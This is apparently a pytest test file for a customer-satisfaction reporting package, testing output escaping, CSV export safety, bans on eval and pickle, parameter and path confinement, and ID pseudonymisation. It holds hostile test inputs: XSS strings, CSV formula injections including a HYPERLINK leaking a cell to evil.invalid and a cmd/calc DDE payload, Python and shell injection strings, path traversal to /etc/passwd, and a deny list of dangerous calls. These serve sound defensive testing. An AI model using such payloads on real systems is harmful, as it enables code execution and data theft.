"""Security: hostile names stay text, CSV exports cannot run formulas, nothing a user gives is
unpickled or evaluated, notebook parameters and paths are checked before anything runs, and
customer ids can leave the team only as keyed pseudonyms. Also the model-safety flags of the
report (too few responses, collinear drivers) are shown, never hidden.

The hostile report (segment ``<script>alert(1)</script>``, customer ids holding
``<img src=x onerror=alert(1)>``) is built once per session and opened in a real browser by
tests/test_report_browser.py.
"""

from __future__ import annotations

import ast
import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import duckdb
import nbformat
import numpy as np
import pandas as pd
import pytest
from malformed_corpus import HOSTILE_OUTPUTS, write_hostile_output

from satmodel import reporting
from satmodel.cli import main
from satmodel.config import Config
from satmodel.errors import InputError
from satmodel.jobs import (
    ProposalRequest,
    ReportRequest,
    check_parameters,
    confine_path,
    run_proposal,
    run_report,
)
from satmodel.jobs.proposal import proposal_key

ROOT = Path(__file__).resolve().parents[1]
PACKAGE = ROOT / "satmodel"
MONTH = "2025-02"
EVIL_SEGMENT = "<script>alert(1)</script>"
EVIL_ID = "<img src=x onerror=alert(1)>"
FORMULA_SEGMENT = "=cmd|' /C calc'!A0"
KEY = "test-key-0123456789abcdef-not-secret"

_CACHE: dict[str, Path] = {}


@pytest.fixture
def data(tmp_path: Path) -> Path:
    from conftest import GOOD_TABLES, write_tables

    return write_tables(tmp_path / "data", GOOD_TABLES)


@pytest.fixture(scope="module")
def tiny(tmp_path_factory) -> Path:
    from test_report import write_tiny_notebook

    return write_tiny_notebook(tmp_path_factory.mktemp("nb") / "tiny.ipynb")


def without_images(text: str) -> str:
    """Text with embedded base64 images removed (random letters could spell anything)."""
    text = re.sub(r"data:image/[a-z+]+;base64,[A-Za-z0-9+/=\s]+", "", text)
    return re.sub(r'"image/png": "[A-Za-z0-9+/=\\n]+"', "", text)


def output_texts(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): without_images(p.read_text(encoding="utf-8-sig"))
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


# --------------------------------------------------------------------------------------
# 2b. CSV exports: formulas neutralised, numbers kept, atomic

HOSTILE_CELLS = [
    "=1+1",
    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "plain text",
    "a=b",  # not at the start: harmless
    "line\n=1+1",  # a formula after a newline stays inside one quoted cell
    'quote " and, comma',
    "",
]


def read_cells(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_write_csv_neutralises_every_formula_and_keeps_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            "text": HOSTILE_CELLS,
            "number": np.linspace(-3.5, 5, len(HOSTILE_CELLS)),
            "count": np.arange(-2, len(HOSTILE_CELLS) - 2),
            "category": pd.Categorical(["=1+1", "ok"] * (len(HOSTILE_CELLS) // 2)),
            "@header": ["x"] * len(HOSTILE_CELLS),
        }
    )
    frame.loc[3, "text"] = None
    path = reporting.write_csv(frame, tmp_path / "export.csv")
    rows = read_cells(path)
    header, body = rows[0], rows[1:]
    assert header == ["text", "number", "count", "category", "'@header"]
    assert len(body) == len(frame)  # no CR or LF in a cell started a row of its own
    dangerous = tuple(reporting.FORMULA_PREFIXES)
    for row, original in zip(body, frame.itertuples(index=False), strict=True):
        for cell in (row[0], row[3], row[4]):  # the text columns
            assert not cell.startswith(dangerous), row
        if isinstance(original.text, str) and original.text.startswith(dangerous):
            assert row[0] == "'" + original.text
        elif isinstance(original.text, str):
            assert row[0] == original.text
    # numbers stay numbers, negative ones included
    assert [float(r[1]) for r in body] == pytest.approx(list(frame["number"]))
    assert [int(r[2]) for r in body] == list(frame["count"])
    assert body[0][2] == "-2"
    assert {r[3] for r in body} == {"'=1+1", "ok"}
    assert [p.name for p in tmp_path.iterdir()] == ["export.csv"]  # no temporary file left


def test_write_csv_is_atomic(tmp_path, monkeypatch):
    path = reporting.write_csv(pd.DataFrame({"a": [1]}), tmp_path / "x.csv")
    before = path.read_bytes()

    def disk_full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(reporting.exports.os, "fsync", disk_full)
    with pytest.raises(OSError):
        reporting.write_csv(pd.DataFrame({"a": [2]}), path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["x.csv"]


@pytest.mark.parametrize("mask", [0o022, 0o077])
def test_write_csv_gets_the_mode_open_gives(tmp_path, mask):
    """Not a fixed 0644: a umask of 0077 keeps the CSV to its owner, as open() would."""
    from satmodel.jobs.files import write_text

    before = os.umask(mask)
    try:
        csv_path = reporting.write_csv(pd.DataFrame({"a": [1]}), tmp_path / "x.csv")
        write_text(tmp_path / "x.html", "<p>x</p>")
        (tmp_path / "plain.txt").write_text("x")
    finally:
        os.umask(before)
    modes = {p.name: p.stat().st_mode & 0o777 for p in (csv_path, *tmp_path.glob("x.html"))}
    assert modes == {"x.csv": 0o666 & ~mask, "x.html": 0o666 & ~mask}
    assert (tmp_path / "plain.txt").stat().st_mode & 0o777 == 0o666 & ~mask


def test_every_csv_goes_through_write_csv():
    """One function writes CSV: no other ``to_csv`` or csv.writer in the package."""
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for function in ast.walk(tree):
            if not isinstance(function, ast.FunctionDef):
                continue
            for node in ast.walk(function):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in ("to_csv", "writer", "DictWriter")
                    and not (
                        path.as_posix().endswith("reporting/exports.py")
                        and function.name == "write_csv"
                    )
                ):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {node.attr}")
    assert offenders == []


# --------------------------------------------------------------------------------------
# 2c. nothing a user gives is unpickled or evaluated

FORBIDDEN_MODULES = {"pickle", "cPickle", "_pickle", "dill", "cloudpickle", "joblib", "marshal"}
FORBIDDEN_MODULES |= {"shelve", "yaml", "jsonpickle"}
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile", "input"}
FORBIDDEN_ATTRIBUTES = {"read_pickle", "to_pickle", "system", "popen", "query", "eval"}
# (file, attribute) pairs that are allowed, with the reason
ALLOWED = {
    # patsy evaluates formula terms, after models.formulas._unsafe_part allowed only columns and np.*
    ("satmodel/models/formulas.py", "eval"),
}


def dangerous_uses(source: str, name: str) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import | ast.ImportFrom):
            modules = (
                [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module]
            )
            for module in modules:
                if (module or "").split(".")[0] in FORBIDDEN_MODULES:
                    found.append(f"{name}:{node.lineno} import {module}")
        elif isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name) and func.id in FORBIDDEN_CALLS:
                found.append(f"{name}:{node.lineno} {func.id}()")
            if (
                isinstance(func, ast.Attribute)
                and func.attr in FORBIDDEN_ATTRIBUTES
                and (name, func.attr) not in ALLOWED
            ):
                found.append(f"{name}:{node.lineno} .{func.attr}()")
            for keyword in node.keywords:
                if keyword.arg in ("allow_pickle", "shell") and not (
                    isinstance(keyword.value, ast.Constant) and keyword.value.value is False
                ):
                    found.append(f"{name}:{node.lineno} {keyword.arg}=...")
    return found


def test_no_pickle_eval_exec_or_shell_in_the_package():
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        found += dangerous_uses(path.read_text(encoding="utf-8"), str(path.relative_to(ROOT)))
    for path in sorted((ROOT / "notebooks").rglob("*.ipynb")):
        nb = nbformat.read(path, as_version=4)
        for cell in nb.cells:
            if cell.cell_type == "code":
                code = "\n".join(
                    "" if line.lstrip().startswith("%") else line
                    for line in cell.source.splitlines()
                )
                found += dangerous_uses(code, str(path.relative_to(ROOT)))
    assert found == []


def test_the_scan_catches_what_it_should():
    hostile = (
        "import pickle\nfrom joblib import load\nimport yaml\n"
        "eval('1')\nexec('x=1')\n__import__('os')\npd.read_pickle('f')\nos.system('id')\n"
        "np.load('f', allow_pickle=True)\nsubprocess.run('id', shell=True)\ndf.query(user)\n"
    )
    assert len(dangerous_uses(hostile, "x.py")) == 11


HOSTILE_FORMULAS = [
    "y ~ __import__('os').system('touch PWNED')",
    "y ~ x.__class__",
    "y ~ (lambda: 1)()",
    "y ~ [c for c in x]",
    "y ~ os.system('id')",
    "y ~ np.__dict__",
    "y ~ open('PWNED', 'w')",
    "y ~ getattr(np, 'save')",
    "y ~ x if x else x",
    "y ~ {'a': 1}",
]


@pytest.mark.parametrize("formula", HOSTILE_FORMULAS)
def test_hostile_formula_is_refused_without_side_effects(formula, tmp_path, monkeypatch):
    from satmodel.models import fit

    monkeypatch.chdir(tmp_path)
    frame = pd.DataFrame({"x": np.arange(40.0), "y": np.arange(40.0) % 5})
    with pytest.raises(InputError, match="formula|column"):
        fit(frame, formula, "ols")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("code", [f.split("~")[1].strip() for f in HOSTILE_FORMULAS[:8]])
def test_outcome_code_is_vetted_next_to_its_eval(code, tmp_path, monkeypatch):
    """A Formula not built by parse_formula still cannot run code through its outcome."""
    from satmodel.models.formulas import Formula, outcome_series

    monkeypatch.chdir(tmp_path)
    frame = pd.DataFrame({"x": np.arange(5.0)})
    forged = Formula(code, code, [], [], [], {}, False)
    with pytest.raises(InputError, match="not allowed"):
        outcome_series(frame, forged)
    assert list(tmp_path.iterdir()) == []
    assert outcome_series(frame, Formula("", "np.log1p(x)", [], [], [], {}, False)).iloc[1] > 0


@pytest.mark.parametrize(
    "formula",
    ["y ~ np.save('PWNED', x)", "y ~ np.load('PWNED.npy', allow_pickle=True)"],
)
def test_numpy_file_functions_in_formulas_are_refused(formula, tmp_path, monkeypatch):
    from satmodel.models import fit

    monkeypatch.chdir(tmp_path)
    frame = pd.DataFrame({"x": np.arange(40.0), "y": np.arange(40.0) % 5})
    with pytest.raises(InputError, match="not allowed"):
        fit(frame, formula, "ols")
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------------------
# 2d. notebook parameters and paths, checked before anything runs

BAD_PARAMETERS = [
    ({"segment": "smb\nimport os"}, "U+000A"),
    ({"segment": "smb\r"}, "U+000D"),
    ({"segment": "a\x00b"}, "U+0000"),
    ({"segment": "a\x1b[31mred"}, "U+001B"),
    ({"segment": "a\u2028b"}, "U+2028"),
    ({"segment": "a\u202eb"}, "U+202E"),  # right-to-left override
    ({"segment": "x" * 5000}, "longer than"),
    ({"n_sim": float("nan")}, "finite"),
    ({"n_sim": {"a": 1}}, "type dict"),
    ({"tiers": ["ok", "bad\n"]}, "U+000A"),
    ({"bad name": 1}, "not a plain name"),
    ({"class": 1}, "not a plain name"),
    ({"x=1;import os;y": 1}, "not a plain name"),
]


@pytest.mark.parametrize(("parameters", "message"), BAD_PARAMETERS)
def test_bad_parameters_are_refused_before_anything_runs(parameters, message, tiny, data, tmp_path):
    with pytest.raises(InputError, match=re.escape(message)):
        check_parameters(parameters)
    out = tmp_path / "reports"
    with pytest.raises(InputError, match=re.escape(message)):
        run_report(
            ReportRequest(month=MONTH, data=data, out=out, notebook=tiny, parameters=parameters)
        )
    assert not out.exists()  # no folder, no lock, no kernel


@pytest.mark.parametrize(
    "argv",
    [
        ["proposal", "--segment", "smb\nx", "--csat-target", "4"],
        ["proposal", "--customer", "c1\x1b[2J", "--csat-target", "4"],
        ["proposal", "--segment", "smb", "--csat-target", "4", "--tiers", "Gold 99/1/1\r"],
        ["report", "--month", "2025-02\n"],
    ],
)
def test_cli_control_characters_exit_2(argv, data, tmp_path, capsys):
    out = tmp_path / "reports"
    code = main([*argv, "--data", str(data), "--out", str(out), "--quiet", "--allow-outside"])
    err = capsys.readouterr().err
    assert code == 2
    assert err.count("\n") == 1 and "Traceback" not in err
    assert not out.exists()


HOSTILE_STRINGS = [
    'smb"; import os; os.system("touch PWNED"); x="',
    "smb'; import os #",
    'smb\\"; import os; #',
    '"""; import os; """',
    "smb\\",
    "{__import__('os').system('id')}",
    "${HOME} $(id) `id`",
    "<script>alert(1)</script>",
]


def test_allowed_strings_reach_the_notebook_as_data_only():
    """Papermill writes parameters as Python source: hostile text must stay one constant."""
    from papermill.translators import translate_parameters

    parameters = {f"p{i}": value for i, value in enumerate(HOSTILE_STRINGS)}
    check_parameters(parameters)
    injected = translate_parameters("python3", "python", parameters)
    tree = ast.parse(injected)
    values = {}
    for node in tree.body:
        assert isinstance(node, ast.Assign) and isinstance(node.value, ast.Constant), ast.dump(node)
        values[node.targets[0].id] = node.value.value
    assert values == parameters


def project(tmp_path: Path, data: Path) -> Path:
    """A project folder: data/tables (the conftest tables) and reports/, as the cwd."""
    root = tmp_path / "project"
    shutil.copytree(data, root / "data" / "tables")
    (root / "reports").mkdir()
    return root


@pytest.mark.parametrize(
    ("data_arg", "out_arg", "flag"),
    [
        ("{outside}", "reports", "--data"),
        ("data/tables", "{outside_out}", "--out"),
        ("data/../../data", "reports", "--data"),  # .. climbs out
        ("data/tables", "reports/../../escape", "--out"),
        ("data/link", "reports", "--data"),  # a symbolic link out of data/
        ("data/tables", "reports/link", "--out"),
        ("data/evil.toml", "reports", "--data"),  # a config naming a source outside
        ("/etc/passwd", "reports", "--data"),
    ],
)
def test_paths_outside_the_project_are_refused(
    data_arg, out_arg, flag, data, tmp_path, monkeypatch, capsys
):
    root = project(tmp_path, data)
    outside_out = tmp_path / "elsewhere"
    (root / "data" / "link").symlink_to(data, target_is_directory=True)
    (root / "reports" / "link").symlink_to(outside_out, target_is_directory=True)
    (root / "data" / "evil.toml").write_text(f'[source]\npath = "{data}"\n')
    monkeypatch.chdir(root)
    monkeypatch.delenv("SATMODEL_ALLOW_PATHS", raising=False)
    monkeypatch.setenv("SATMODEL_CONFINE_PATHS", "1")
    argv = [
        "--data",
        data_arg.format(outside=data),
        "--out",
        out_arg.format(outside_out=outside_out),
    ]
    for command in (
        ["report", "--month", MONTH],
        ["proposal", "--segment", "smb", "--csat-target", "4"],
    ):
        code = main([*command, *argv, "--quiet"])
        err = capsys.readouterr().err
        assert code == 2, err
        assert f"satmodel: {flag} " in err and "outside the project's folders" in err, err
        assert "--allow-outside" in err and err.count("\n") == 1
    assert not outside_out.exists()
    assert list((root / "reports").iterdir()) == [root / "reports" / "link"]


def test_paths_inside_the_project_run_and_outside_ones_need_the_flag(
    tiny, data, tmp_path, monkeypatch
):
    root = project(tmp_path, data)
    monkeypatch.chdir(root)
    monkeypatch.delenv("SATMODEL_ALLOW_PATHS", raising=False)
    # like `make report`: data under data/, reports under reports/
    folder = run_report(
        ReportRequest(
            month=MONTH,
            data="data/tables",
            out="reports",
            notebook=tiny,
            progress=False,
            allow_outside=False,
        )
    )
    assert folder == root / "reports" / MONTH
    with pytest.raises(InputError, match="outside the project's folders"):
        run_report(
            ReportRequest(month=MONTH, data=data, out="reports", notebook=tiny, allow_outside=False)
        )
    # explicitly allowed: the flag (Python: allow_outside=True, the API default) or the env
    assert run_report(
        ReportRequest(month=MONTH, data=data, out=tmp_path / "r", notebook=tiny, progress=False)
    )
    monkeypatch.setenv("SATMODEL_ALLOW_PATHS", "1")
    from satmodel.jobs import allowed_outside_by_env

    assert allowed_outside_by_env()


def test_confine_path_follows_symlinks(tmp_path):
    root = tmp_path / "data"
    root.mkdir()
    (root / "ok.duckdb").write_text("")
    assert confine_path(root / "ok.duckdb", [root], "--data") == (root / "ok.duckdb").resolve()
    (root / "escape").symlink_to("/etc")
    with pytest.raises(InputError, match="outside"):
        confine_path(root / "escape" / "passwd", [root], "--data")


# --------------------------------------------------------------------------------------
# 2e. pseudonyms


def test_pseudonym_is_keyed_stable_and_opaque():
    key = KEY.encode()
    first = reporting.pseudonym("C0001", key)
    assert re.fullmatch(r"cust-[0-9a-f]{16}", first)
    assert reporting.pseudonym("C0001", key) == first
    assert reporting.pseudonym("C0002", key) != first
    assert reporting.pseudonym("C0001", b"another-key-0123456789") != first
    assert "C0001" not in first
    # the same in another process (no per-process salt)
    code = f"from satmodel.reporting import pseudonym; print(pseudonym('C0001', {key!r}))"
    other = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert other.stdout.strip() == first
    ids = pd.Series(["C0001", None, "C0002", "C0001"])
    mapped = reporting.pseudonymise_ids(ids, key)
    assert mapped[0] == mapped[3] == first
    assert pd.isna(mapped[1])


def test_pseudonym_key_from_env_or_a_private_file(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv(reporting.PSEUDONYM_KEY_ENV, raising=False)
    with pytest.raises(InputError, match="no pseudonym key"):
        reporting.pseudonym_key()
    key = reporting.pseudonym_key(create=True)
    path = tmp_path / "data" / "pseudonym.key"
    assert path.stat().st_mode & 0o777 == 0o600
    assert len(key) == 64 and reporting.pseudonym_key() == key  # reused, never replaced
    assert reporting.pseudonym_key(create=True) == key
    path.chmod(0o644)
    with pytest.raises(InputError, match="readable by others"):
        reporting.pseudonym_key()
    monkeypatch.setenv(reporting.PSEUDONYM_KEY_ENV, "short")
    with pytest.raises(InputError, match="too short"):
        reporting.pseudonym_key()
    monkeypatch.setenv(reporting.PSEUDONYM_KEY_ENV, KEY)
    assert reporting.pseudonym_key() == KEY.encode()


def real_ids(db: Path) -> list[str]:
    with duckdb.connect(str(db), read_only=True) as con:
        return [r[0] for r in con.execute("SELECT customer_id FROM customers").fetchall()]


@pytest.mark.slow
def test_pseudonymised_report_and_proposal_show_no_real_id(tmp_path_factory, monkeypatch):
    from test_notebooks import demo_data

    data = demo_data(tmp_path_factory)
    ids = real_ids(data)
    out = tmp_path_factory.mktemp("pseudonymised")
    monkeypatch.setenv(reporting.PSEUDONYM_KEY_ENV, KEY)
    expected = {reporting.pseudonym(i, KEY.encode()) for i in ids}

    def assert_no_real_id(where: Path) -> None:
        texts = output_texts(where)
        assert {"summary.json", "manifest.json"} <= set(texts)
        for name, text in texts.items():
            leaked = [i for i in ids if i in text]
            assert leaked == [], f"{where.name}/{name} shows real ids {leaked[:3]}"
            assert KEY not in text
            shown = set(re.findall(r"cust-[0-9a-f]{16}", text))
            assert shown <= expected, f"{name}: pseudonyms not from this key"

    folder = run_report(
        ReportRequest(data=data, out=out / "reports", progress=False, pseudonymise=True)
    )
    assert_no_real_id(folder)
    # the report's tables hold pseudonyms (the same mapping in every output)
    at_risk = pd.read_csv(folder / "customers_at_risk.csv", encoding="utf-8-sig")
    assert len(at_risk) and set(at_risk["customer_id"]) <= expected
    summary = json.loads((folder / "summary.json").read_text())
    worst = [row["customer_id"] for row in summary["gaps"]["worst"]]
    assert worst and set(worst) <= expected

    # a proposal for one customer (the real id is given): named, titled, run and summarised
    # with its pseudonym, the same one as in the report
    customer = ids[4]
    proposal = run_proposal_pseudonymised(data, out / "proposals", customer)
    assert_no_real_id(proposal)
    alias = reporting.pseudonym(customer, KEY.encode())
    assert proposal.name == f"customer-{alias}-csat4"
    assert json.loads((proposal / "summary.json").read_text())["customer"] == alias
    assert alias in (proposal / "proposal.html").read_text()
    assert (proposal / "proposal.csv").is_file()


def run_proposal_pseudonymised(data: Path, out: Path, customer: str) -> Path:
    return run_proposal(
        ProposalRequest(
            customer=customer,
            csat_target=4.0,
            data=data,
            out=out,
            parameters={"n_sim": 100},
            progress=False,
            pseudonymise=True,
        )
    )


# --------------------------------------------------------------------------------------
# 2a. the hostile report: every data string escaped (the browser test opens it too)


def hostile_report(tmp_path_factory) -> Path:
    """The small demo's report with a script-tag segment, a formula segment and every
    customer id holding an onerror image tag; built once per session."""
    if "hostile" in _CACHE:
        return _CACHE["hostile"]
    from test_notebooks import demo_data

    base = tmp_path_factory.mktemp("hostile")
    db = base / "hostile.duckdb"
    shutil.copy(demo_data(tmp_path_factory), db)
    with duckdb.connect(str(db)) as con:
        tables = con.execute(
            "SELECT table_name FROM information_schema.columns WHERE column_name = 'customer_id'"
        ).fetchall()
        for (table,) in tables:
            con.execute(f"UPDATE {table} SET customer_id = ? || customer_id", [EVIL_ID])
        con.execute("UPDATE customers SET segment = ? WHERE segment = 'smb'", [EVIL_SEGMENT])
        con.execute(
            "UPDATE customers SET segment = ? WHERE segment = 'mid_market'", [FORMULA_SEGMENT]
        )
    _CACHE["hostile"] = run_report(
        ReportRequest(
            data=db, out=base / "reports", progress=False, parameters={"importance_boot": 50}
        )
    )
    return _CACHE["hostile"]


@pytest.mark.slow
def test_hostile_names_are_escaped_in_the_report(tmp_path_factory):
    folder = hostile_report(tmp_path_factory)
    html = (folder / "report.html").read_text()
    assert EVIL_SEGMENT not in html and EVIL_ID not in html
    assert not re.search(r"<script>\s*alert|<img[^>]*onerror", html, re.IGNORECASE)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "&amp;lt;" not in html  # escaped once, not twice
    summary = json.loads((folder / "summary.json").read_text())
    assert EVIL_SEGMENT in {row["segment"] for row in summary["service_levels"]}
    # the CSV export: the formula segment is neutralised, ids kept as text
    rows = read_cells(folder / "customers_at_risk.csv")
    header, body = rows[0], rows[1:]
    assert body, "the demo has customers at risk"
    segments = {row[header.index("segment")] for row in body}
    assert FORMULA_SEGMENT not in segments
    for row in body:
        assert row[header.index("customer_id")].startswith(EVIL_ID)
        assert not any(cell.startswith(reporting.FORMULA_PREFIXES) for cell in row[:2])
    frame = pd.read_csv(folder / "customers_at_risk.csv", encoding="utf-8-sig")
    assert pd.api.types.is_float_dtype(frame["predicted_csat"])


# --------------------------------------------------------------------------------------
# 3. model safety: the report shows what the models flag


def test_too_few_responses_per_segment_is_flagged():
    import warnings

    from satmodel.models import fit_default_models

    rng = np.random.default_rng(3)
    n = 120
    responses = pd.DataFrame(
        {
            "customer_id": rng.integers(0, 30, n).astype(str),
            "segment": ["big"] * 100 + ["small"] * 20,
            "error_rate": rng.uniform(0, 0.05, n),
        }
    )
    responses["csat"] = rng.integers(1, 6, n)
    panel = pd.DataFrame({"segment": ["big", "small", "silent"], "customer_id": ["a", "b", "c"]})
    formulas = {"csat": "csat ~ error_rate", "top2": "I(csat >= 4) ~ error_rate"}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        results = fit_default_models(responses, panel, formulas=formulas)
    for result in results.values():
        flagged = [w for w in result.warnings_ if "too few responses in segment" in w]
        assert len(flagged) == 2 and "'silent': n = 0" in flagged[0]
        assert "'small': n = 20" in flagged[1]
        assert not result.reliable


@pytest.mark.slow
def test_degenerate_demo_report_shows_its_warnings(tmp_path_factory):
    """12 customers and a constant error rate: too few responses per segment and a collinear
    driver; summary.json lists them and the HTML shows them."""
    from satmodel.demo import generate_demo

    base = tmp_path_factory.mktemp("degenerate")
    db = base / "tiny.duckdb"
    generate_demo(
        base / "demo",
        duckdb_path=db,
        progress=False,
        customers=12,
        months=4,
        seed=3,
        start_month="2024-11",
    )
    with duckdb.connect(str(db)) as con:
        con.execute("UPDATE requests SET ok = true")  # error_rate 0 everywhere: collinear
    folder = run_report(
        ReportRequest(
            data=db, out=base / "reports", progress=False, parameters={"importance_boot": 20}
        )
    )
    summary = json.loads((folder / "summary.json").read_text())
    warnings = summary["warnings"]
    assert any("too few responses in segment" in w for w in warnings)
    assert any("collinear" in w for w in warnings)
    assert summary["drivers"]["csat"]["warnings"]  # the model itself says it is not fine
    assert summary["diagnostics"]["failed"] > 0
    html = (folder / "report.html").read_text()
    assert "too few responses in segment" in html
    assert "collinear design" in html
    assert "No warnings." not in html


# --------------------------------------------------------------------------------------
# 4. a run touches only what it made, and database passwords never leave the kernel


def tree_state(root: Path) -> dict[str, tuple]:
    """Every entry under ``root``, links not followed: its kind and content."""
    state: dict[str, tuple] = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder) / name
            rel = str(path.relative_to(root))
            if path.is_symlink():
                state[rel] = ("link", os.readlink(path))
            elif path.is_dir():
                state[rel] = ("dir",)
            else:
                state[rel] = ("file", path.read_bytes())
    return state


@pytest.mark.parametrize("case", HOSTILE_OUTPUTS, ids=[case.name for case in HOSTILE_OUTPUTS])
def test_a_run_touches_only_what_it_made(case, tiny, data, tmp_path):
    root = write_hostile_output(case, tmp_path / "project")
    before = tree_state(root)
    request = ReportRequest(
        month=MONTH, data=data, out=root / "reports", notebook=tiny, progress=False
    )
    if case.exit_code == 0:
        assert run_report(request) == (root / "reports" / MONTH).resolve()
    else:
        with pytest.raises(InputError) as info:
            run_report(request)
        assert len(info.value.problems) == 1, info.value.problems
        assert case.fragment in info.value.problems[0]
        if "reports/.2025-02.partial" not in before:
            assert not os.path.lexists(root / "reports" / ".2025-02.partial")
    after = tree_state(root)
    assert {name: after.get(name) for name in before} == before


@pytest.mark.parametrize(
    "case",
    [case for case in HOSTILE_OUTPUTS if case.exit_code == 2],
    ids=[case.name for case in HOSTILE_OUTPUTS if case.exit_code == 2],
)
def test_a_hostile_output_folder_is_one_line_and_exit_2(case, data, tmp_path, capsys):
    root = write_hostile_output(case, tmp_path / "project")
    before = tree_state(root)
    argv = ["report", "--data", str(data), "--out", str(root / "reports"), "--month", MONTH]
    code = main([*argv, "--quiet", "--allow-outside"])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.count("\n") == 1 and case.fragment in err and "Traceback" not in err
    after = tree_state(root)
    assert {name: after.get(name) for name in before} == before


SECRET = "PW-s3cret-9f1c"
SECRET_NOTEBOOK_BODY = (
    "import hashlib, os\n"
    "from satmodel.reporting import write_summary\n"
    "seen = hashlib.sha256(os.environ.get('PGPASSWORD', '').encode()).hexdigest()\n"
    "written = write_summary({'data': data, 'password_sha256': seen}, out_dir)"
)


@pytest.mark.parametrize(
    "url",
    [
        f"postgresql://reader:{SECRET}@127.0.0.1:9/warehouse",
        f"postgresql://reader@127.0.0.1:9/warehouse?password={SECRET}",
    ],
)
def test_database_password_reaches_only_the_kernel(url, tmp_path, monkeypatch):
    """The notebook, manifest and HTML show the URL without its password; the kernel alone
    gets it (PGPASSWORD, which libpq reads)."""
    from nbformat.v4 import new_code_cell, new_notebook

    from satmodel.jobs import report as report_job

    parameters = new_code_cell('month: str = ""\ndata: str = ""\nout_dir: str = ""')
    parameters.metadata["tags"] = ["parameters"]
    notebook = tmp_path / "secret.ipynb"
    nbformat.write(
        new_notebook(
            cells=[parameters, new_code_cell(SECRET_NOTEBOOK_BODY)],
            metadata={
                "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
            },
        ),
        notebook,
    )

    # no server: the source check before the run is replaced, the notebook opens nothing
    def inspect_without_server(data, check=None, allowed_roots=None):
        if check is not None:
            check(SimpleNamespace(config=Config()))
        return (MONTH, MONTH), {"surveys": "x"}

    monkeypatch.setattr(report_job, "inspect_source", inspect_without_server)
    out = tmp_path / "reports"
    folder = run_report(
        ReportRequest(month=MONTH, data=url, out=out, notebook=notebook, progress=False)
    )
    for path in out.rglob("*"):
        if path.is_file():
            assert SECRET not in path.read_text(errors="replace"), path.name
    summary = json.loads((folder / "summary.json").read_text())
    assert summary["password_sha256"] == hashlib.sha256(SECRET.encode()).hexdigest()
    assert summary["data"].startswith("postgresql://reader@127.0.0.1:9/warehouse")
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["parameters"]["data"] == summary["data"]


def test_proposal_folders_of_names_that_slug_alike_differ():
    assert proposal_key("enterprise", None, 4.3, 2) == "enterprise-csat4.3-complaints2"
    assert proposal_key(None, "C0001", 4.5, None) == "customer-C0001-csat4.5"
    names = ["smb", "smb!", "smb?", "smb/", "smb\\", "x" * 61, "x" * 62]
    keys = [proposal_key(name, None, 4.0, None) for name in names]
    assert len(set(keys)) == len(names), keys
    assert all(re.fullmatch(r"[A-Za-z0-9._-]+", key) for key in keys), keys


def test_pseudonymised_proposal_errors_show_no_real_id(data, tmp_path, monkeypatch):
    monkeypatch.setenv(reporting.PSEUDONYM_KEY_ENV, KEY)
    request = ProposalRequest(
        customer="c3", csat_target=4.0, data=data, out=tmp_path / "p", pseudonymise=True
    )
    with pytest.raises(InputError) as info:
        run_proposal(request)
    message = str(info.value)
    assert not re.search(r"\bc[12]\b", message), message
    assert reporting.pseudonym("c1", KEY.encode()) in message
    # without --pseudonymise the ids are shown, as before
    with pytest.raises(InputError, match=r"\bc1\b"):
        run_proposal(ProposalRequest(customer="c3", csat_target=4.0, data=data, out=tmp_path))


@pytest.mark.parametrize("escape", ["table_name", "symlink_in_folder"])
def test_confined_report_refuses_paths_the_source_names_outside_data(
    escape, tmp_path, monkeypatch, good_folder, capsys
):
    """--confine-paths covers what a config or a folder names, not only --data itself."""
    from satmodel.cli import main

    project = tmp_path / "project"
    (project / "data" / "tables").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    for path in good_folder.iterdir():
        (project / "data" / "tables" / path.name).write_bytes(path.read_bytes())
    (outside / "customers.csv").write_bytes((good_folder / "customers.csv").read_bytes())
    if escape == "table_name":
        data = project / "data" / "satmodel.toml"
        data.write_text(
            '[source]\npath = "tables"\n[tables.customers]\ntable = "../../../outside/customers"\n',
            encoding="utf-8",
        )
    else:
        (project / "data" / "tables" / "customers.csv").unlink()
        (project / "data" / "tables" / "customers.csv").symlink_to(outside / "customers.csv")
        data = project / "data" / "tables"
    monkeypatch.chdir(project)
    code = main(["report", "--data", str(data), "--out", "reports", "--confine-paths", "--quiet"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2
    assert len(err) == 1 and "outside" in err[0], err
